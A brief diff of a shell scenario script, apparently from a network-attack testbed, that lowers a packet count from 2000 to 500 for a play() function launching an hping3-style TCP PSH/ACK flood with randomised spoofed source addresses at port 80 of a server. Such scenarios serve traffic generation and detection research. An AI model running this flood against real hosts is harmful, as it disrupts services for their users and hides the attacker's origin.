@@ -5,7 +5,7 @@
 # target: server
 # source: attacker
 # tools: hping3
-# packets: 2000
+# packets: 500
 play() {
 	flood attacker "$SERVER_IP" -P -A -p 80 -d 120 --rand-source
 }
